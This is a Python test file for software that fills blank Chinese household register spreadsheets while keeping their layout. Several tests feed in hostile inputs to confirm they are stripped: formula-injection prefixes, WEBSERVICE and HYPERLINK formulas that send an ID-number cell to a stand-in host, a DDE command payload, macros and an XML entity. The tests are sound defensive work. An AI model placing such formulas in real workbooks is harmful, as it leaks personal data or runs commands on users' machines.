"""Any office's empty form: its head is found, it is filled, its layout kept, and nothing in it can act."""

from __future__ import annotations

import io
from collections.abc import Sequence
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.formatting.rule import FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation

from engine.casework.portions.foreign import books
from engine.casework.portions.foreign.books import Blank, Filling
from engine.casework.portions.foreign.refilling import formulas
from engine.ground.errors import Invalid
from engine.ground.rows import heading
from engine.prevention.register.filled.asked import HOUSEHOLD, PERSON
from engine.prevention.register.filled.fields import FIELDS, about
from engine.prevention.register.filled.headings import HEADINGS, meant
from tests.support import foreign, old_books
from tests.unit.test_workbooks import changed

PERSONS = 12
"""More than the five empty rows that the form has."""


def known(path: Sequence[str]) -> bool:
    return bool(meant(path))


def blank(body: bytes, name: str = "form.xlsx") -> Blank:
    return books.opened(body, name, known)


def filled(form: Blank, rows: Sequence[Sequence[object]]) -> bytes:
    with Filling(form, range(len(form.head.columns))) as filling:
        for row in rows:
            filling.row(row)  # type: ignore[arg-type]
        return filling.bytes()


def refusal(body: bytes, name: str = "form.xlsx") -> str:
    with pytest.raises(Invalid) as found:
        blank(body, name)
    return found.value.message


@pytest.mark.duty("R41")
def test_a_merged_head_of_two_storeys_is_read() -> None:
    head = blank(foreign.two_storeys()).head
    assert (head.title, head.first, head.foot) == (foreign.TITLE, 5, 10)
    assert [meant(column.path) for column in head.columns] == [
        *("serial", "village", "head_name", "head_id_number", "size", "wage", "per_capita"),
        *("official", "official_phone", ""),
    ]
    assert head.columns[9].title == "是否易地搬迁"


@pytest.mark.parametrize(
    ("path", "key"),
    [
        (["户主信息", "身份证号码（18位）"], "head_id_number"),
        (["帮扶干部", "姓名"], "official"),
        (["村干部", "姓名"], ""),
        (["联系人", "电话"], ""),
        (["监测对象基本信息", "姓名"], "name"),
        (["与户主\n关系*"], "relation"),
        (["村（社区）"], "village"),
        (["２０２２年", "人均纯收入（元）"], "per_capita"),
    ],
)
def test_a_heading_means_what_stands_over_it_lets_it_mean(path: list[str], key: str) -> None:
    assert meant(path) == key


def test_every_field_is_recognised_by_its_title_and_by_nothing_of_another() -> None:
    assert {meant([one.title]) for one in FIELDS.values()} == set(FIELDS)
    for one in FIELDS.values():
        assert {meant([name]) for name in HEADINGS[one.key].also} <= {one.key}, one.key


def test_what_a_row_is_follows_from_the_headings() -> None:
    assert about(["village", "head_name", "size", "category"]) == HOUSEHOLD
    assert about(["name", "id_number", "size", "category"]) == HOUSEHOLD
    assert about(["head_name", "name", "relation", "health"]) == PERSON
    assert about(["name", "sex", "id_number", "age"]) == PERSON


@pytest.mark.duty("R41")
def test_the_layout_is_kept_and_the_foot_moves_down() -> None:
    rows = [[n, "石岭村", "王一", "410325195001011234", 3, None, 6310.5, "冯", "1", ""] for n in range(1, 13)]
    sheet = foreign.opened(filled(blank(foreign.two_storeys()), rows))["统计表"]
    assert [cell.value for cell in sheet[16]][:5] == [12, "石岭村", "王一", "410325195001011234", 3]
    assert (sheet["A17"].value, sheet["E17"].value) == ("合计", "=SUM(E5:E16)")
    assert sheet["A18"].value.startswith("填表人")
    assert {str(area) for area in sheet.merged_cells.ranges} == {*foreign.MERGED[:-1], "A18:J18"}
    assert {name: sheet.column_dimensions[name].width for name in foreign.WIDTHS} == foreign.WIDTHS
    assert sheet["A1"].font.sz == 18 and sheet["C16"].border.left.style == "thin"
    assert sheet.row_dimensions[16].height == 26


def test_of_few_rows_the_empty_ones_stay() -> None:
    sheet = foreign.opened(filled(blank(foreign.two_storeys()), [[1, "石岭村"]]))["统计表"]
    assert (sheet["B5"].value, sheet["A10"].value, sheet["E10"].value) == ("石岭村", "合计", "=SUM(E5:E9)")
    assert sheet["C9"].border.left.style == "thin"


@settings(max_examples=8, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=5))
def test_what_is_written_is_text_whatever_it_begins_with(words: list[str]) -> None:
    rows = [[1, f"{mark}{word}"] for word in words for mark in ("=", "+", "@", "-", "")]
    body = filled(blank(foreign.plain(["序号", "村", "户主姓名"])), rows)
    with ZipFile(io.BytesIO(body)) as book:
        assert b"<f" not in book.read("xl/worksheets/sheet1.xml")
    assert len(list(foreign.opened(body).active.rows)) == 1 + len(rows)


@pytest.mark.parametrize(
    ("formula", "stays"),
    [
        ("SUM(E5:E9)", True),
        ('IF(D5="","",YEAR(TODAY())-MID(D5,7,4))', True),
        ('WEBSERVICE("http://x/?"&D5)', False),
        ('HYPERLINK("http://x/"&D5,"看")', False),
        ("[1]Sheet1!A1", False),
        ("cmd|' /C calc'!A0", False),
        ('INDIRECT("D"&5)', False),
        ('_xlfn.WEBSERVICE("http://x")', False),
    ],
)
def test_a_formula_that_could_send_numbers_away_does_not_stay(formula: str, stays: bool) -> None:
    form = blank(foreign.two_storeys({"J10": f"={formula}"}))
    assert ("连到别处" in "".join(form.notes)) is not stays
    sheet = foreign.opened(filled(form, [[1]]))["统计表"]
    assert sheet["J10"].value == (f"={formula}" if stays else None)


def test_rules_with_such_formulas_go_too() -> None:
    book = openpyxl.load_workbook(io.BytesIO(foreign.two_storeys()))
    sheet = book.active
    rule = DataValidation("custom", formula1='WEBSERVICE("http://x/"&D5)')
    kept = DataValidation("list", formula1='"是,否"')
    rule.add("B5:B9")
    kept.add("J5:J9")
    sheet.add_data_validation(rule)
    sheet.add_data_validation(kept)
    sheet.conditional_formatting.add("D5:D9", FormulaRule(['INDIRECT("x")']))
    found = foreign.opened(filled(blank(foreign.saved(book)), [[n] for n in range(PERSONS)]))["统计表"]
    assert [(str(one.sqref), one.formula1) for one in found.data_validations.dataValidation] == [
        ("J5:J16", '"是,否"')
    ]
    assert not list(found.conditional_formatting)


def test_macros_links_and_pictures_are_not_taken_over() -> None:
    body = io.BytesIO()
    with ZipFile(io.BytesIO(foreign.two_storeys())) as old, ZipFile(body, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        new.writestr("xl/vbaProject.bin", b"macro")
        new.writestr("xl/externalLinks/externalLink1.xml", b"<x/>")
        new.writestr("xl/media/image1.png", b"picture")
    form = blank(body.getvalue())
    assert "宏" in "".join(form.notes)
    with ZipFile(io.BytesIO(filled(form, [[1]]))) as book:
        assert {name.split("/")[1] for name in book.namelist() if name.startswith("xl/")} <= {
            *("workbook.xml", "_rels", "styles.xml", "sharedStrings.xml", "theme", "worksheets")
        }


def test_a_sheet_with_entities_is_refused() -> None:
    xml = b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet><sheetData/></worksheet>'
    assert "打不开" in refusal(changed(foreign.two_storeys(), "xl/styles.xml", xml))


def test_formulas_move_as_rows_are_put_in() -> None:
    assert formulas.moved('SUM(E5:E24)+F30+$A$25&"E25"', 25, 10) == 'SUM(E5:E34)+F40+$A$35&"E25"'
    assert formulas.moved("SUM(E5:E5)+其他!E30", 6, 3) == "SUM(E5:E8)+其他!E30"
    assert formulas.copied_down("C5+$D$5", 2) == "C7+$D$5"


def test_a_column_that_the_form_reckons_is_reckoned_in_every_row() -> None:
    form = blank(foreign.two_storeys({"J5": "=F5*2"}))
    with Filling(form, range(9)) as filling:
        for number in range(PERSONS):
            filling.row([number])
        sheet = foreign.opened(filling.bytes())["统计表"]
    assert list(form.formulas) == [9] and sheet["J16"].value == "=F16*2"


# -- bad input, each its own sentence --------------------------------------------------------------

HEADS = ["户主姓名", "身份证号", "村", "备注"]


@pytest.mark.parametrize(
    ("body", "name", "sentence"),
    [
        (foreign.plain(["产品", "数量", "单价"]), "form.xlsx", "没有认出这张表的表头"),
        (foreign.plain(["村", "数量", "单价", "金额"]), "form.xlsx", "至少要有两个登记簿里有的栏目"),
        (foreign.plain(HEADS, ["王一", "410325", "石岭村"]), "form.xlsx", "第 2 行已有内容"),
        (foreign.two_storeys(hidden_column="D"), "form.xlsx", "“户主／身份证号码”这一列在表里是隐藏的"),
        (foreign.two_storeys(hidden_row=4), "form.xlsx", "表头（第 4 行）在表里是隐藏的"),
        (foreign.saved(openpyxl.Workbook()), "form.xlsx", "是空的"),
        (b"", "form.xlsx", "文件是空的"),
        (bytes.fromhex("D0CF11E0A1B11AE1") + "EncryptedPackage".encode("utf-16-le"), "a.xlsx", "文件有密码"),
        (bytes.fromhex("D0CF11E0A1B11AE1") + "WordDocument".encode("utf-16-le"), "a.doc", "这是 Word 文件"),
        (bytes.fromhex("D0CF11E0A1B11AE1") + b"broken" * 90, "a.xls", "打不开"),
        (old_books.written([["户主姓名", "村"]], locked=True), "a.xls", "文件有密码"),
        (b"PK\x03\x04broken", "form.xlsx", "打不开"),
        (b"%PDF-1.7", "form.pdf", "不是表格"),
        (b"x" * 3_000_001, "form.csv", "不会超过 3 MB"),
        ("户主姓名,村\n".encode() + b'"a', "form.csv", "引号没有成对"),
    ],
)
def test_what_is_no_empty_form_has_a_sentence_of_its_own(body: bytes, name: str, sentence: str) -> None:
    assert sentence in refusal(body, name)


@pytest.mark.parametrize("encoding", ["gbk", "utf-8", "utf-8-sig", "utf-16"])
def test_a_text_file_comes_back_as_a_workbook(encoding: str) -> None:
    form = blank("序号,户主姓名,村\r\n".encode(encoding), "form.csv")
    assert [meant(column.path) for column in form.head.columns] == ["serial", "head_name", "village"]
    assert ("GBK" in "".join(form.notes)) is (encoding == "gbk")
    assert "填好的表是 .xlsx" in "".join(form.notes)
    rows = [
        [cell.value for cell in row] for row in foreign.opened(filled(form, [[1, "王一", "石岭村"]])).active
    ]
    assert rows == [["序号", "户主姓名", "村"], [1, "王一", "石岭村"]]


def test_a_form_of_before_2007_comes_back_as_a_workbook_of_today() -> None:
    old = old_books.written(
        [["统计表"], ["户主", "", "村"], ["姓名", "身份证号", ""]], [(1, 1, 0, 1), (1, 2, 2, 2)]
    )
    form = blank(old, "老表.xls")
    assert [meant(column.path) for column in form.head.columns] == ["head_name", "head_id_number", "village"]
    sheet = foreign.opened(filled(form, [["王一", "410325", "石岭村"]])).active
    assert list(sheet.values)[3] == ("王一", "410325", "石岭村")
    assert {str(area) for area in sheet.merged_cells.ranges} == {"A2:B2", "C2:C3"}


def test_a_row_that_numbers_the_columns_belongs_to_the_head() -> None:
    head = blank(foreign.plain(["户主姓名", "村", "组"], ["甲", "乙", 1], title="统计表")).head
    assert (head.first, head.title) == (4, "统计表")


def test_each_field_has_one_line_in_the_table_of_headings_and_no_heading_means_two() -> None:
    assert list(HEADINGS) == list(FIELDS)
    lines = [{heading(name) for name in (one.title, *one.also)} for one in HEADINGS.values()]
    assert sum(map(len, lines)) == len(set().union(*lines))
